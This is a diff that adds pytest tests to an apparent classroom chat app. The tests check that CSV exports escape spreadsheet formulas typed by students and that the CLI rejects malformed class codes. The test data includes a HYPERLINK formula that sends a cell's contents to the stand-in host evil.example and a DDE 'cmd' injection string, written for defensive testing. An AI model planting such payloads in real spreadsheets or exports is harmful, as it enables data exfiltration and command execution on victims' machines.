@@ -187,3 +187,42 @@ def test_cli_instructor_add_prints_working_token(
         "instructor classes Lee --class CODE` gives them another class, `backchannel "
         "instructor token Lee` prints a new token.\n"
     )
+
+
+def test_export_csv_neutralises_formulas_typed_by_a_student(client: TestClient) -> None:
+    """The probe's payloads, typed through the WebSocket, arrive in the CSV as text."""
+    name = '=HYPERLINK("http://evil.example/?x="&A2,"y")'
+    line = "\t+cmd|' /C calc'!A0"  # hello and say strip the tab: "+cmd..." is what is stored
+    with client.websocket_connect("/ws") as ws:
+        ws.send_json({"type": "hello", "student": name, "class": "HIST210"})
+        ws.receive_json()
+        ws.send_json({"type": "roleplay.start", "as": "kissinger", "document": None})
+        ws.receive_json()
+        ws.send_json({"type": "say", "text": line})
+        ws.receive_json()
+    response = client.get("/api/classes/HIST210/export.csv", headers=TEACHER)
+    rows = list(csv.DictReader(io.StringIO(response.content.decode("utf-8-sig"))))
+    assert [(r["student"], r["line"]) for r in rows] == [("'" + name, "'" + line.strip())]
+    body = client.get("/api/classes/HIST210/export.json", headers=TEACHER).json()
+    assert body["sessions"][0]["student"] == name  # the JSON keeps what was typed
+
+
+@pytest.mark.parametrize(
+    "code", ["HIST\r\n210", 'HIST"210', "HIST/210", "../x", "", "a b", "x" * 41, "é1", "HIST."]
+)
+def test_cli_refuses_class_codes_that_break_exports_or_routes(
+    tmp_path: Path, capsys: pytest.CaptureFixture[str], code: str
+) -> None:
+    with pytest.raises(SystemExit) as exited:
+        main(["instructor", "add", "Lee", "--class", code, "--data", str(tmp_path)])
+    assert exited.value.code == 2
+    assert f"argument --class: {code!r} is not a class code: use 1 to 40 letters" in (
+        capsys.readouterr().err
+    )
+    assert not (tmp_path / "backchannel.sqlite3").exists()  # refused before the store opens
+
+
+def test_cli_accepts_ordinary_class_codes(tmp_path: Path) -> None:
+    codes = ["HIST210", "IR-101.2026", "hist_2"]
+    args = ["instructor", "add", "Lee", "--data", str(tmp_path)]
+    assert main([*args, *(x for c in codes for x in ("--class", c))]) == 0
